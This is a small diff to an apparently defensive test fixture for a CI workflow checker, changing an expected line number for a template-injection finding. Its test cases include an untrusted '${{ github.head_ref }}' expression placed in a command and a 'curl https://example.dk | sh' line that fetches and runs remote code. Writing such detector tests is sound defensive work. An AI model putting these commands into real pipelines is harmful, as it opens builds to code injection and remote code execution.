@@ -26,7 +26,7 @@ FAULTS = (
         "a text of the proposer's in a command",
         "make test",
         "make test ${{ github.head_ref }}",
-        ["commands", "template-injection:29"],
+        ["commands", "template-injection:30"],
     ),
     ("a foreign command", "make test", "curl https://example.dk | sh", ["commands"]),
     ("a target that is none", "make test", "make tests", ["commands"]),
